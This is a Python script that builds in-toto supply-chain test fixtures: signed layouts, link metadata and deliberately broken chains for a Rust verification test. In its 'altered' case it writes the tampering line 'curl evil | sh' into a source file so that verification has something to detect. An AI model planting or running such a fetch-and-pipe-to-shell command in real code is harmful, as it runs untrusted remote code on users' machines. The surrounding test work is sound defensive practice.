"""A source -> build -> test -> package -> deploy supply chain recorded with the PyPI in-toto
tools (the independent producer of crates/vouch/tests/custody_svid.rs).

Each step runs `in-toto-run` on real files, signed with a throwaway "recorder" key; the Rust
test then re-signs each link with a builder's X.509-SVID (`vouch custody sign`), so what the
links say (materials, products, command) is in-toto's own recording. Two layouts over the same
five steps and rules, written with in-toto's Python API and signed by the owner with
securesystemslib:

  keyed.layout       steps' functionary: the recorder key (pubkeys); in-toto-verify checks it
  svid.layout        steps' functionaries: SPIFFE ID argv[2] (`cert_constraints`, in-toto
                     ITE-7 as in-toto-golang writes it; no pubkeys)
  other-id.layout    as svid.layout, but deploy's functionary is another SPIFFE ID
  two.layout         as svid.layout, but deploy needs 2 of SPIFFE ID argv[2] and argv[2]-second
  inspect.layout     keyed.layout plus an inspection (untar the package, check its files)
  slow.layout        keyed.layout plus an inspection running `sleep 30`
  cmd.layout         keyed.layout with build's expected_command as recorded, test's another

and the links:

  good/              the five links, recorder-signed
  dsse/              the five steps run again, links as DSSE envelopes (in-toto-run --use-dsse)
  keyed-dsse.layout  keyed.layout as a DSSE envelope
  super.layout       keyed.layout with build delegated to a sublayout (compile, upcase)
                     signed by key "sub"; super/ the links, super/build.<sub[:8]>/ its links
  keyed-rsa.layout   keyed.layout signed by an RSA owner (rsa-owner.pub), build's functionary
                     an RSA-PSS key, deploy's an RSA PKCS#1 v1.5 key; good-rsa/ its links
  altered/build.*    build run on a source altered after the source step
  reordered/package.* package run before test (its materials lack the test report)

Usage: python3 custody_svid_chain.py OUT SPIFFE_ID
"""

import json
import os
import shutil
import subprocess
import sys

from cryptography.hazmat.primitives.serialization import (
    Encoding,
    PublicFormat,
    load_pem_private_key,
)
from in_toto.models.layout import Inspection, Layout, Step
from in_toto.models.metadata import Envelope, Metablock
from securesystemslib.formats import encode_canonical
from securesystemslib.signer import CryptoSigner

out = os.path.abspath(sys.argv[1])
spiffe_id = sys.argv[2]
bindir = os.path.dirname(sys.executable)
os.makedirs(out, exist_ok=True)


def keypair(name, signer):
    priv = os.path.join(out, name + ".pem")
    pub = os.path.join(out, name + ".pub")
    with open(priv, "wb") as f:
        f.write(signer.private_bytes)
    with open(pub, "wb") as f:
        f.write(
            load_pem_private_key(signer.private_bytes, None)
            .public_key()
            .public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        )
    return signer, priv, pub


owner, _, _ = keypair("owner", CryptoSigner.generate_ed25519())
recorder, rec_priv, rec_pub = keypair("recorder", CryptoSigner.generate_ed25519())

RULES = {
    "source": ([], [["CREATE", "src/*"], ["DISALLOW", "*"]]),
    "build": (
        [["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "source"], ["DISALLOW", "*"]],
        [["CREATE", "build/app.out"], ["DISALLOW", "*"]],
    ),
    "test": (
        [["MATCH", "build/*", "WITH", "PRODUCTS", "FROM", "build"], ["DISALLOW", "*"]],
        [
            ["MATCH", "build/*", "WITH", "PRODUCTS", "FROM", "build"],
            ["CREATE", "test/report.txt"],
            ["DISALLOW", "*"],
        ],
    ),
    "package": (
        [
            ["REQUIRE", "test/report.txt"],
            ["MATCH", "build/*", "WITH", "PRODUCTS", "FROM", "build"],
            ["MATCH", "test/report.txt", "WITH", "PRODUCTS", "FROM", "test"],
            ["DISALLOW", "*"],
        ],
        [["CREATE", "app.tar.gz"], ["DISALLOW", "*"]],
    ),
    "deploy": (
        [["MATCH", "app.tar.gz", "WITH", "PRODUCTS", "FROM", "package"], ["DISALLOW", "*"]],
        [["CREATE", "deployed/app.tar.gz"], ["DISALLOW", "*"]],
    ),
}
ORDER = ["source", "build", "test", "package", "deploy"]
BUILD_CMD = ["sh", "-c", "mkdir -p build && cat src/app.sh src/README | tr a-z A-Z > build/app.out"]


def keyed_layout():
    lay = Layout()
    lay.set_relative_expiration(days=30)
    k = lay.add_functionary_key_from_path(rec_pub)
    steps = []
    for name in ORDER:
        s = Step(name=name)
        s.pubkeys = [k["keyid"]]
        s.expected_materials, s.expected_products = RULES[name]
        steps.append(s)
    lay.steps = steps
    return lay, k["keyid"]


def signed_metablock(signed_dict, path):
    """Sign a layout given as a dict (so it may carry fields in-toto's Python model does
    not know, such as in-toto-golang's cert_constraints) with the owner's key."""
    sig = owner.sign(encode_canonical(signed_dict).encode())
    with open(path, "w") as f:
        json.dump({"signed": signed_dict, "signatures": [sig.to_dict()]}, f, indent=1)


def svid_layout(ids):
    d = json.loads(keyed_layout()[0].signable_bytes)
    d["keys"] = {}
    for s in d["steps"]:
        s["pubkeys"] = []
        s["cert_constraints"] = [{"common_name": "*", "uris": [ids.get(s["name"], spiffe_id)]}]
    return d


lay, kid = keyed_layout()
mb = Metablock(signed=lay)
mb.create_signature(owner)
mb.dump(os.path.join(out, "keyed.layout"))
signed_metablock(svid_layout({}), os.path.join(out, "svid.layout"))
other = spiffe_id.rsplit("/", 1)[0] + "/someone-else"
signed_metablock(svid_layout({"deploy": other}), os.path.join(out, "other-id.layout"))
# Deploy needs two functionaries: the builder and a second SPIFFE ID.
two = svid_layout({})
second = spiffe_id + "-second"
for s in two["steps"]:
    if s["name"] == "deploy":
        s["cert_constraints"].append({"common_name": "*", "uris": [second]})
        s["threshold"] = 2
signed_metablock(two, os.path.join(out, "two.layout"))

insp_lay = keyed_layout()[0]
insp = Inspection(name="untar")
insp.set_run_from_string("tar xzf app.tar.gz")
insp.expected_materials = [
    ["MATCH", "app.tar.gz", "WITH", "PRODUCTS", "FROM", "package"],
    ["ALLOW", "*.link"],
    ["ALLOW", "*.layout"],
    ["ALLOW", "*.pub"],
    ["DISALLOW", "*"],
]
insp.expected_products = [
    ["MATCH", "build/app.out", "WITH", "PRODUCTS", "FROM", "build"],
    ["MATCH", "test/report.txt", "WITH", "PRODUCTS", "FROM", "test"],
    ["ALLOW", "*"],
]
insp_lay.inspect = [insp]
mb = Metablock(signed=insp_lay)
mb.create_signature(owner)
mb.dump(os.path.join(out, "inspect.layout"))

# An inspection that outlives any sensible timeout.
slow_lay = keyed_layout()[0]
slow = Inspection(name="slow")
slow.set_run_from_string("sleep 30")
slow_lay.inspect = [slow]
mb = Metablock(signed=slow_lay)
mb.create_signature(owner)
mb.dump(os.path.join(out, "slow.layout"))

# Expected commands: build's is what in-toto-run recorded, test's is not.
cmd_lay = keyed_layout()[0]
cmd_lay.steps[1].expected_command = list(BUILD_CMD)
cmd_lay.steps[2].expected_command = ["make", "test"]
mb = Metablock(signed=cmd_lay)
mb.create_signature(owner)
mb.dump(os.path.join(out, "cmd.layout"))


def run(work, step, mat, prod, cmd, linkdir, dsse=False):
    args = [os.path.join(bindir, "in-toto-run"), "-n", step, "--signing-key", rec_priv, "-d", linkdir]
    if dsse:
        args.append("--use-dsse")
    if mat:
        args += ["-m"] + mat
    if prod:
        args += ["-p"] + prod
    subprocess.run(args + ["--"] + cmd, cwd=work, check=True)


SOURCE = ["sh", "-c", "mkdir -p src && printf 'echo hello\\n' > src/app.sh && printf 'hi\\n' > src/README"]
BUILD = BUILD_CMD
TEST = ["sh", "-c", "mkdir -p test && grep -q HELLO build/app.out && echo pass > test/report.txt"]
PACKAGE = ["tar", "--sort=name", "--mtime=@0", "-czf", "app.tar.gz", "build", "test"]
DEPLOY = ["sh", "-c", "mkdir -p deployed && cp app.tar.gz deployed/"]

good = os.path.join(out, "good")
os.makedirs(good)
work = os.path.join(out, "work")
os.makedirs(work)
run(work, "source", None, ["src"], SOURCE, good)
run(work, "build", ["src"], ["build"], BUILD, good)
run(work, "test", ["build"], ["build", "test"], TEST, good)
run(work, "package", ["build", "test"], ["app.tar.gz"], PACKAGE, good)
run(work, "deploy", ["app.tar.gz"], ["deployed"], DEPLOY, good)

# The same five steps recorded as DSSE envelopes (`in-toto-run --use-dsse`), in a fresh tree.
dsse = os.path.join(out, "dsse")
os.makedirs(dsse)
work4 = os.path.join(out, "work4")
os.makedirs(work4)
run(work4, "source", None, ["src"], SOURCE, dsse, True)
run(work4, "build", ["src"], ["build"], BUILD, dsse, True)
run(work4, "test", ["build"], ["build", "test"], TEST, dsse, True)
run(work4, "package", ["build", "test"], ["app.tar.gz"], PACKAGE, dsse, True)
run(work4, "deploy", ["app.tar.gz"], ["deployed"], DEPLOY, dsse, True)
# The keyed layout as a DSSE envelope too.
env = Envelope.from_signable(keyed_layout()[0])
env.create_signature(owner)
env.dump(os.path.join(out, "keyed-dsse.layout"))

# RSA keys (securesystemslib's rsassa-pss-sha256 and rsa-pkcs1v15-sha256): the keyed layout
# signed by an RSA owner, with build's functionary an RSA-PSS key and deploy's an RSA PKCS#1
# v1.5 key, whose links are the good ones re-signed with in-toto's API.
rsa_owner, _, _ = keypair("rsa-owner", CryptoSigner.generate_rsa())
rsa_pss = CryptoSigner.generate_rsa()
rsa_v15 = CryptoSigner.generate_rsa(scheme="rsa-pkcs1v15-sha256")
rsa_lay, _ = keyed_layout()
rsa_ids = {}
for step, signer in [("build", rsa_pss), ("deploy", rsa_v15)]:
    k = signer.public_key.to_dict()
    k["keyid"] = signer.public_key.keyid
    rsa_lay.add_functionary_key(k)
    rsa_lay.get_step_by_name(step).pubkeys = [k["keyid"]]
    rsa_ids[step] = k["keyid"]
mb = Metablock(signed=rsa_lay)
mb.create_signature(rsa_owner)
mb.dump(os.path.join(out, "keyed-rsa.layout"))
good_rsa = os.path.join(out, "good-rsa")
os.makedirs(good_rsa)
for f in os.listdir(good):
    step = f.split(".")[0]
    if step in rsa_ids:
        link = Metablock.load(os.path.join(good, f))
        link.signatures = []
        link.create_signature({"build": rsa_pss, "deploy": rsa_v15}[step])
        link.dump(os.path.join(good_rsa, "%s.%s.link" % (step, rsa_ids[step][:8])))
    else:
        shutil.copy(os.path.join(good, f), good_rsa)

# A sublayout: the build step delegated (its functionary "sub" signs a layout of two steps,
# compile then upcase, recorded by the recorder key), as in-toto's sublayouts work: the root
# layout super.layout names sub for build; super/build.<sub[:8]>.link is the signed
# sublayout, super/build.<sub[:8]>/ its links.
sub, _, sub_pub = keypair("sub", CryptoSigner.generate_ed25519())
sub_lay = Layout()
sub_lay.set_relative_expiration(days=30)
kr = sub_lay.add_functionary_key_from_path(rec_pub)
compile_ = Step(name="compile")
compile_.pubkeys = [kr["keyid"]]
compile_.expected_materials = [["ALLOW", "src/*"], ["DISALLOW", "*"]]
compile_.expected_products = [["CREATE", "build/app.tmp"], ["DISALLOW", "*"]]
upcase = Step(name="upcase")
upcase.pubkeys = [kr["keyid"]]
upcase.expected_materials = [
    ["MATCH", "build/app.tmp", "WITH", "PRODUCTS", "FROM", "compile"],
    ["DISALLOW", "*"],
]
upcase.expected_products = [["CREATE", "build/app.out"], ["DISALLOW", "*"]]
sub_lay.steps = [compile_, upcase]
super_lay, _ = keyed_layout()
ks = super_lay.add_functionary_key_from_path(sub_pub)
super_lay.get_step_by_name("build").pubkeys = [ks["keyid"]]
mb = Metablock(signed=super_lay)
mb.create_signature(owner)
mb.dump(os.path.join(out, "super.layout"))
sup = os.path.join(out, "super")
os.makedirs(sup)
for f in os.listdir(good):
    if not f.startswith("build."):
        shutil.copy(os.path.join(good, f), sup)
mb = Metablock(signed=sub_lay)
mb.create_signature(sub)
mb.dump(os.path.join(sup, "build.%s.link" % ks["keyid"][:8]))
sub_dir = os.path.join(sup, "build.%s" % ks["keyid"][:8])
os.makedirs(sub_dir)
work5 = os.path.join(out, "work5")
os.makedirs(work5)
scratch5 = os.path.join(out, "scratch5")
os.makedirs(scratch5)
run(work5, "source", None, ["src"], SOURCE, scratch5)
run(work5, "compile", ["src"], ["build"], ["sh", "-c", "mkdir -p build && cat src/app.sh src/README > build/app.tmp"], sub_dir)
run(work5, "upcase", ["build"], ["build"], ["sh", "-c", "tr a-z A-Z < build/app.tmp > build/app.out && rm build/app.tmp"], sub_dir)

# Reordered: package run before test (no test report yet), in a copy of the tree after build.
reordered = os.path.join(out, "reordered")
os.makedirs(reordered)
work3 = os.path.join(out, "work3")
shutil.copytree(work, work3)
shutil.rmtree(os.path.join(work3, "test"))
os.remove(os.path.join(work3, "app.tar.gz"))
run(work3, "package", ["build", "test"], ["app.tar.gz"], ["tar", "-czf", "app.tar.gz", "build"], reordered)

# Altered: the source changed after its step was recorded, then built.
altered = os.path.join(out, "altered")
os.makedirs(altered)
work2 = os.path.join(out, "work2")
shutil.copytree(work, work2)
with open(os.path.join(work2, "src/app.sh"), "w") as f:
    f.write("curl evil | sh\n")
shutil.rmtree(os.path.join(work2, "build"))
run(work2, "build", ["src"], ["build"], BUILD, altered)

# The deploy directory of the good run: inspections run here.
shutil.copy(os.path.join(work, "app.tar.gz"), os.path.join(out, "app.tar.gz"))

with open(os.path.join(out, "expected.json"), "w") as f:
    json.dump({"recorder": kid, "other_id": other}, f)
